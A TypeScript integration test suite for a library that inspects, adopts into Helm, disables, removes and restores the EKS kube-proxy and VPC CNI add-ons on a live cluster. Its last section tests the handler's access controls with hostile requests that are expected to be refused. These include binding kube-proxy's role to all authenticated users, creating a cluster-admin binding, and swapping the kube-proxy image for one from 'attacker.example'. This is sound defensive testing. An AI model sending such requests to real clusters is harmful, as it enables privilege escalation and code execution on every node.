/**
 * kube-proxy on one engine with the VPC CNI, on the REAL API server with the REAL kubectl and helm:
 * owners from evidence (table-driven histories: how EKS may have written it, and what others did),
 * what each action does and leaves, the recovery copy and restore (for the VPC CNI too), and the
 * handler's access for kube-proxy as the handler's own identity.
 */
import * as path from 'path';
import { CniAction, PreinstalledAddon, PreinstalledAddonOwnership } from '../../src';
import { KUBE_PROXY, VPC_CNI } from '../../src/addons';
import { KUBERNETES_GROUP, KUBERNETES_USERNAME } from '../../src/contract';
import {
  Action, AddonDefinition, KubeApiError, KubeClient, KubeObject, objectPath, OwnedByOthersError, OwnerKind, PartialApplyError,
  recoveryCopyObject, run, RunResult,
} from '../../src/engine';
import { Cli, connection, Fixtures, KUBE_PROXY_CHART, resetCluster, waitUntil } from '../support/cluster';
import { certificateIdentity } from '../support/identity';
import { LAYER_PACKAGES, layerTools } from '../support/tools';

const CHART = KUBE_PROXY_CHART;
const admin = new KubeClient(connection());
afterAll(() => admin.close());
const tools = LAYER_PACKAGES.map(layerTools);
const cli = new Cli(tools[0]);
const fixtures = new Fixtures(cli);

const DS = 'DaemonSet/kube-system/kube-proxy';
const WINDOWS = 'ClusterRoleBinding/eks:kube-proxy-windows';
const REQUIRED = KUBE_PROXY.objects.filter((o) => !o.optional).map((o) => o.id);
const COPY = recoveryCopyObject(KUBE_PROXY);

/** kube-proxy as EKS renders it (our own chart, the shapes of the facts). */
const render = (...extra: string[]) => fixtures.renderKubeProxy(...extra);
const apply = (args: string[], manifests: string) => cli.kubectl(['apply', ...args, '-f', '-'], manifests);

/** Every kube-proxy object, the recovery copy and Helm's records gone (system:node-proxier is never touched). */
const resetKubeProxy = () => resetCluster(admin, [KUBE_PROXY]);

async function snapshotOf(addon: AddonDefinition): Promise<Record<string, KubeObject | undefined>> {
  const out: Record<string, KubeObject | undefined> = {};
  for (const o of addon.objects) out[o.id] = await admin.get<KubeObject>(objectPath(o));
  return out;
}

/** What restore must give back: the spec (and a ConfigMap's data, a binding's roleRef and subjects), labels, annotations. */
function asRun(live: KubeObject | undefined) {
  if (!live) return undefined;
  const annotations = { ...live.metadata.annotations };
  delete annotations['deprecated.daemonset.template.generation'];
  return {
    labels: live.metadata.labels, annotations, spec: live.spec, data: live.data, roleRef: live.roleRef, subjects: live.subjects,
  };
}

const ADOPT: Action = { type: 'ADOPT', releaseName: 'kube-proxy', releaseNamespace: 'kube-system', fieldManager: 'helm' };
const ACTIONS: Record<'adopt' | 'remove' | 'disable', Action> = {
  adopt: ADOPT,
  remove: { type: 'REMOVE', crdPolicy: 'KEEP' },
  disable: { type: 'DISABLE' },
};

type Outcome = 'REFUSED' | { readonly changed: readonly string[] };

interface History {
  readonly name: string;
  readonly make: () => void;
  readonly managedAddon?: boolean;
  readonly owner: OwnerKind;
  readonly ownerDescription?: RegExp;
  readonly adopt: Outcome;
  readonly remove: Outcome;
  readonly disable: Outcome;
}

const eksOutcomes = { adopt: { changed: REQUIRED }, remove: { changed: REQUIRED }, disable: { changed: [DS] } };
const refused = { adopt: 'REFUSED', remove: 'REFUSED', disable: 'REFUSED' } as const;

const histories: History[] = [
  {
    name: 'EKS applies it server-side as "eks" (as it does the VPC CNI)',
    make: () => apply(['--server-side', '--field-manager', 'eks'], render()),
    owner: 'EKS_BOOTSTRAP',
    ...eksOutcomes,
  },
  {
    name: 'EKS creates it as "eks" (a plain create: Update entries only)',
    make: () => cli.kubectl(['create', '--field-manager', 'eks', '-f', '-'], render()),
    owner: 'EKS_BOOTSTRAP',
    ownerDescription: /created by field manager "eks", no other writer/,
    ...eksOutcomes,
  },
  {
    name: 'with Windows support: the eks:kube-proxy-windows binding too',
    make: () => apply(['--server-side', '--field-manager', 'eks'], render('--set', 'windows=true')),
    owner: 'EKS_BOOTSTRAP',
    adopt: { changed: [...REQUIRED, WINDOWS] },
    remove: { changed: [...REQUIRED, WINDOWS] },
    disable: { changed: [DS] },
  },
  {
    name: 'client-side kubectl apply (cannot be told from an admin\'s: someone else\'s)',
    make: () => apply([], render()),
    owner: 'KUBECTL',
    ownerDescription: /kubectl apply \(client-side\)/,
    ...refused,
  },
  {
    name: 'the EKS managed add-on (DescribeAddon kube-proxy answers)',
    make: () => apply(['--server-side', '--field-manager', 'eks'], render()),
    managedAddon: true,
    owner: 'EKS_MANAGED_ADDON',
    ownerDescription: /the EKS managed add-on "kube-proxy"/,
    ...refused,
  },
  {
    name: 'a user\'s Helm release of a kube-proxy chart',
    make: () => cli.helm(['install', 'kube-proxy', CHART, '--namespace', 'kube-system']),
    owner: 'HELM_RELEASE',
    ownerDescription: /Helm release "kube-proxy"/,
    // Adopting into the release that owns it is a no-op; removing or disabling a release's objects is refused.
    adopt: { changed: [] },
    remove: 'REFUSED',
    disable: 'REFUSED',
  },
  {
    name: 'EKS, then a GitOps applier (Argo CD) applies it server-side',
    make: () => {
      apply(['--server-side', '--field-manager', 'eks'], render());
      apply(['--server-side', '--force-conflicts', '--field-manager', 'argocd-controller'], render('--set', 'mode=ipvs'));
    },
    owner: 'OTHER_APPLIER',
    ownerDescription: /"argocd-controller"/,
    ...refused,
  },
  {
    name: 'partly removed: only the DaemonSet deleted (what Cluster API Provider AWS does to disable kube-proxy)',
    make: () => {
      apply(['--server-side', '--field-manager', 'eks'], render());
      cli.kubectl(['delete', '-n', 'kube-system', 'daemonset/kube-proxy']);
    },
    owner: 'EKS_BOOTSTRAP',
    adopt: { changed: REQUIRED.filter((id) => id !== DS) },
    remove: { changed: REQUIRED.filter((id) => id !== DS) },
    disable: { changed: [] },
  },
  {
    name: 'partly removed: the DaemonSet and ConfigMap kube-proxy deleted (what Cilium\'s kube-proxy-free guide does)',
    make: () => {
      apply(['--server-side', '--field-manager', 'eks'], render());
      cli.kubectl(['delete', '-n', 'kube-system', 'daemonset/kube-proxy', 'configmap/kube-proxy']);
    },
    owner: 'EKS_BOOTSTRAP',
    adopt: { changed: REQUIRED.filter((id) => id !== DS && id !== 'ConfigMap/kube-system/kube-proxy') },
    remove: { changed: REQUIRED.filter((id) => id !== DS && id !== 'ConfigMap/kube-system/kube-proxy') },
    disable: { changed: [] },
  },
  {
    name: 'absent (bootstrapSelfManagedAddons false, or removed by hand)',
    make: () => undefined,
    owner: 'ABSENT',
    adopt: { changed: [] },
    remove: { changed: [] },
    disable: { changed: [] },
  },
];

describe.each(histories.map((h) => [h.name, h]))('kube-proxy history: %s', (_name, history) => {
  const engine = (action: Action, extra: { dryRun?: boolean; ifOwnedByOthers?: 'TAKE_OVER' } = {}) =>
    run(admin, { addon: KUBE_PROXY, action, facts: { managedAddon: history.managedAddon }, ...extra });

  beforeEach(async () => {
    await resetKubeProxy();
    history.make();
  });

  test('owner', async () => {
    const { previousOwner } = await engine({ ...ADOPT, readReleaseRecords: true } as Action, { dryRun: true, ifOwnedByOthers: 'TAKE_OVER' });
    expect(previousOwner.kind).toBe(history.owner);
    if (history.ownerDescription) expect(previousOwner.description).toMatch(history.ownerDescription);
  });

  test.each(Object.keys(ACTIONS).map((a) => [a]))('%s', async (name) => {
    const outcome = history[name as keyof typeof ACTIONS];
    const action = ACTIONS[name as keyof typeof ACTIONS];
    if (outcome === 'REFUSED') {
      const before = await snapshotOf(KUBE_PROXY);
      const error = await engine(action).then(() => undefined, (e) => e);
      expect(error).toBeInstanceOf(OwnedByOthersError);
      // What was seen, and which option overrides it.
      expect(error.message).toMatch(new RegExp(`Refusing to ${name} kube-proxy: it is owned by .*TAKE_OVER`));
      expect(await snapshotOf(KUBE_PROXY)).toEqual(before);
      expect(await admin.get(objectPath(COPY))).toBeUndefined();
      return;
    }
    const result: RunResult = await engine(action);
    expect(result.changed).toEqual(outcome.changed);
    if (name === 'adopt' && outcome.changed.length > 0) {
      for (const id of outcome.changed) {
        const live = (await snapshotOf(KUBE_PROXY))[id]!;
        expect(live.metadata.annotations?.['meta.helm.sh/release-name']).toBe('kube-proxy');
        expect((live.metadata.managedFields ?? []).map((m) => m.manager)).not.toContain('eks');
      }
    }
    if (name === 'remove' && outcome.changed.length > 0) {
      expect(result.recoveryCopy).toBe(COPY.id);
      for (const id of outcome.changed) expect((await snapshotOf(KUBE_PROXY))[id]).toBeUndefined();
    }
    // Converged: the same action again writes nothing.
    expect((await engine(action)).plan.writes).toEqual([]);
  });
});

describe('adopt kube-proxy into a chart that renders EKS\'s names', () => {
  beforeEach(resetKubeProxy);

  test.each(tools.map((t) => [path.basename(path.dirname(t.helm)), t]))('then helm install (%s) takes it over: no ownership error, no eks fields, the pod template unchanged', async (_label, t) => {
    const helmCli = new Cli(t);
    apply(['--server-side', '--field-manager', 'eks'], render());
    expect(helmCli.failing('helm', ['install', 'kube-proxy', CHART, '--namespace', 'kube-system'])).toMatch(/invalid ownership metadata|cannot be imported/);
    const before = (await snapshotOf(KUBE_PROXY))[DS]!;
    await run(admin, { addon: KUBE_PROXY, action: ADOPT });
    helmCli.helm(['install', 'kube-proxy', CHART, '--namespace', 'kube-system']);
    const after = (await snapshotOf(KUBE_PROXY))[DS]!;
    expect(after.metadata.generation).toBe(before.metadata.generation);
    expect(after.spec.template).toEqual(before.spec.template);
    for (const live of Object.values(await snapshotOf(KUBE_PROXY)).filter(Boolean)) {
      expect((live!.metadata.managedFields ?? []).map((m) => m.manager)).not.toContain('eks');
    }
  });
});

describe('remove, then restore from the recovery copy', () => {
  test('kube-proxy: every object comes back as it ran (spec, ConfigMap data, binding), applied as "eks" again', async () => {
    await resetKubeProxy();
    apply(['--server-side', '--field-manager', 'eks'], render('--set', 'windows=true'));
    const before = await snapshotOf(KUBE_PROXY);
    const removed = await run(admin, { addon: KUBE_PROXY, action: ACTIONS.remove });
    expect(removed.plan.writes[0]).toMatchObject({ verb: 'APPLY', objectId: COPY.id });
    expect(Object.values(await snapshotOf(KUBE_PROXY)).every((o) => o === undefined)).toBe(true);
    // Kubernetes's own role is never touched.
    expect(await admin.get('/apis/rbac.authorization.k8s.io/v1/clusterroles/system:node-proxier')).toBeDefined();

    const restored = await run(admin, { addon: KUBE_PROXY, action: { type: 'RESTORE' } });
    expect([...restored.changed].sort()).toEqual([...REQUIRED, WINDOWS].sort());
    const after = await snapshotOf(KUBE_PROXY);
    for (const o of KUBE_PROXY.objects) expect(asRun(after[o.id])).toEqual(asRun(before[o.id]));
    // The cluster is as the removal found it: EKS's bootstrap install, and restore has converged.
    expect((await run(admin, { addon: KUBE_PROXY, action: { type: 'INSPECT' } })).previousOwner.kind).toBe('EKS_BOOTSTRAP');
    expect((await run(admin, { addon: KUBE_PROXY, action: { type: 'RESTORE' } })).plan.writes).toEqual([]);
  });

  test('the VPC CNI too: every object comes back as it ran', async () => {
    await resetCluster(admin);
    fixtures.newEksCluster();
    const before = await snapshotOf(VPC_CNI);
    await run(admin, { addon: VPC_CNI, action: { type: 'REMOVE', crdPolicy: 'DELETE', deletePolicyEndpointCrd: true } });
    const restored = await run(admin, { addon: VPC_CNI, action: { type: 'RESTORE' } });
    expect([...restored.changed].sort()).toEqual(VPC_CNI.objects.map((o) => o.id).sort());
    const after = await snapshotOf(VPC_CNI);
    for (const o of VPC_CNI.objects) expect(asRun(after[o.id])).toEqual(asRun(before[o.id]));
    expect((await run(admin, { addon: VPC_CNI, action: { type: 'INSPECT' } })).previousOwner.kind).toBe('EKS_BOOTSTRAP');
    await admin.delete(objectPath(recoveryCopyObject(VPC_CNI)));
  });

  test('a disabled kube-proxy removed, then restored, runs again (the copy keeps it as it ran before the disable)', async () => {
    await resetKubeProxy();
    apply(['--server-side', '--field-manager', 'eks'], render());
    const before = await snapshotOf(KUBE_PROXY);
    await run(admin, { addon: KUBE_PROXY, action: { type: 'DISABLE' } });
    await run(admin, { addon: KUBE_PROXY, action: ACTIONS.remove });
    await run(admin, { addon: KUBE_PROXY, action: { type: 'RESTORE' } });
    expect((await snapshotOf(KUBE_PROXY))[DS]!.spec.template).toEqual(before[DS]!.spec.template);
  });

  test('without a recovery copy, restore says so plainly and writes nothing', async () => {
    await resetKubeProxy();
    const result = await run(admin, { addon: KUBE_PROXY, action: { type: 'RESTORE' } });
    expect(result.plan.writes).toEqual([]);
    expect(result.plan.notes.join('\n')).toMatch(/there is no recovery copy \(ConfigMap\/kube-system\/cdk-vpc-cni-ownership-recovery-kube-proxy\): nothing can be re-created/);
  });

  test('a removal that fails part-way leaves the copy in place; running again finishes, and restore brings everything back', async () => {
    await resetKubeProxy();
    apply(['--server-side', '--field-manager', 'eks'], render());
    const before = await snapshotOf(KUBE_PROXY);
    let deletes = 0;
    const failing = run(admin, {
      addon: KUBE_PROXY,
      action: ACTIONS.remove,
      beforeWrite: (w) => {
        if (w.verb === 'DELETE' && ++deletes === 3) throw new Error('injected failure before the third delete');
      },
    });
    await expect(failing).rejects.toThrow(PartialApplyError);
    expect(await admin.get(objectPath(COPY))).toBeDefined();
    // The rest is removed by a second run; the copy still holds everything, including what the first run deleted.
    await run(admin, { addon: KUBE_PROXY, action: ACTIONS.remove });
    expect(Object.values(await snapshotOf(KUBE_PROXY)).every((o) => o === undefined)).toBe(true);
    await run(admin, { addon: KUBE_PROXY, action: { type: 'RESTORE' } });
    const after = await snapshotOf(KUBE_PROXY);
    for (const o of KUBE_PROXY.objects) expect(asRun(after[o.id])).toEqual(asRun(before[o.id]));
  });

  test('a ConfigMap of that name that is not the library\'s stops remove before any write', async () => {
    await resetKubeProxy();
    apply(['--server-side', '--field-manager', 'eks'], render());
    cli.kubectl(['create', 'configmap', COPY.name, '-n', 'kube-system', '--from-literal=mine=true']);
    const before = await snapshotOf(KUBE_PROXY);
    await expect(run(admin, { addon: KUBE_PROXY, action: ACTIONS.remove })).rejects.toThrow(/is not the library's recovery copy/);
    expect(await snapshotOf(KUBE_PROXY)).toEqual(before);
  });
});

describe('the handler\'s identity with exactly the synthesized access for kube-proxy', () => {
  const identity = certificateIdentity(KUBERNETES_USERNAME, [KUBERNETES_GROUP]);
  const handler = new KubeClient(identity.connection, { maxAttempts: 1 });
  const docs = (manifest: readonly unknown[]) => manifest.map((m) => JSON.stringify(m)).join('\n---\n');
  const ALL_ACTIONS = [CniAction.inspect(), CniAction.disable(), CniAction.remove(), CniAction.restore(), CniAction.adoptIntoHelm()];
  const manifestOf = (action: CniAction) => PreinstalledAddonOwnership.rbacManifestFor(PreinstalledAddon.KUBE_PROXY, action);
  afterAll(() => {
    cli.kubectl(['delete', '--ignore-not-found', '-f', '-'], docs(ALL_ACTIONS.flatMap(manifestOf)));
    handler.close();
  });

  async function applyAccess(action: CniAction): Promise<void> {
    cli.kubectl(['delete', '--ignore-not-found', '-f', '-'], docs(ALL_ACTIONS.flatMap(manifestOf)));
    cli.kubectl(['apply', '-f', '-'], docs(manifestOf(action)));
    const name = manifestOf(action).find((m) => m.kind === 'ClusterRole').metadata.name.replace(/^cdk-vpc-cni-ownership-/, '');
    // Wait until the policy applied last answers for this action (its messages name it): a dry-run apply
    // of kube-proxy with another image is an update where it runs and a creation where it was removed.
    const probe = {
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: { name: 'kube-proxy', namespace: 'kube-system' },
      spec: { selector: { matchLabels: { 'k8s-app': 'kube-proxy' } }, template: { metadata: { labels: { 'k8s-app': 'kube-proxy' } }, spec: { containers: [{ name: 'kube-proxy', image: 'probe.example/kube-proxy:1' }] } } },
    };
    await waitUntil('the admission policy in force', async () => {
      const error = await handler.request('PATCH', objectPath(KUBE_PROXY.workload), {
        body: probe, contentType: 'application/apply-patch+yaml', query: { fieldManager: 'access-test', force: 'true', dryRun: 'All' },
      }).then(() => undefined, (e) => e);
      return error instanceof KubeApiError && error.message.includes(`cdk-vpc-cni-ownership (${name}):`);
    });
  }

  const refusal = async (request: Promise<unknown>) => {
    const error = await request.then(() => undefined, (e) => e);
    if (!(error instanceof KubeApiError)) throw new Error(`expected a refusal, got ${error === undefined ? 'success' : error}`);
    expect(error.status).toBe(403);
    return error;
  };

  test.each([
    ['inspect', CniAction.inspect()], ['disable', CniAction.disable()], ['adopt', CniAction.adoptIntoHelm()],
  ])('%s succeeds; joining or re-pointing eks:kube-proxy, changing its image, touching system:node-proxier are refused', async (_name, action) => {
    await resetKubeProxy();
    apply(['--server-side', '--field-manager', 'eks'], render());
    await applyAccess(action);
    await run(handler, { addon: KUBE_PROXY, action: action._action.type === 'ADOPT' ? ADOPT : action._action });

    const binding = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/eks:kube-proxy';
    await refusal(handler.patch(binding, { subjects: [{ kind: 'Group', name: 'system:authenticated', apiGroup: 'rbac.authorization.k8s.io' }] }, 'access-test'));
    await refusal(handler.request('DELETE', binding));
    await refusal(handler.request('POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', {
      body: { metadata: { name: 'eks:kube-proxy-2' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'kube-proxy', namespace: 'kube-system' }] },
    }));
    await refusal(handler.patch(objectPath(KUBE_PROXY.workload),
      { spec: { template: { spec: { containers: [{ name: 'kube-proxy', image: 'attacker.example/kube-proxy:1' }] } } } }, 'access-test'));
    await refusal(handler.patch('/apis/rbac.authorization.k8s.io/v1/clusterroles/system:node-proxier', { metadata: { labels: { x: 'y' } } }, 'access-test'));
    await refusal(handler.request('DELETE', '/apis/rbac.authorization.k8s.io/v1/clusterroles/system:node-proxier'));
  });

  test('remove, then restore, succeed as the handler; restore may not re-create a binding to another role or a workload with another image', async () => {
    await resetKubeProxy();
    apply(['--server-side', '--field-manager', 'eks'], render());
    const before = await snapshotOf(KUBE_PROXY);
    await applyAccess(CniAction.remove());
    await run(handler, { addon: KUBE_PROXY, action: ACTIONS.remove });
    expect(Object.values(await snapshotOf(KUBE_PROXY)).every((o) => o === undefined)).toBe(true);

    await applyAccess(CniAction.restore());
    const bad = (body: Record<string, unknown>, p: string) => refusal(handler.apply(p, body, 'access-test'));
    await bad({
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name: 'eks:kube-proxy' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'system:node-proxier' },
      subjects: [{ kind: 'Group', name: 'system:authenticated', apiGroup: 'rbac.authorization.k8s.io' }],
    }, '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/eks:kube-proxy');
    const copyDs = JSON.parse((await admin.get(objectPath(COPY)))!.data['objects.json']).find((o: any) => o.id === DS).object;
    copyDs.spec.template.spec.containers[0].image = 'attacker.example/kube-proxy:1';
    await bad(copyDs, objectPath(KUBE_PROXY.workload));

    await run(handler, { addon: KUBE_PROXY, action: { type: 'RESTORE' } });
    const after = await snapshotOf(KUBE_PROXY);
    for (const o of KUBE_PROXY.objects) expect(asRun(after[o.id])).toEqual(asRun(before[o.id]));
  });
});
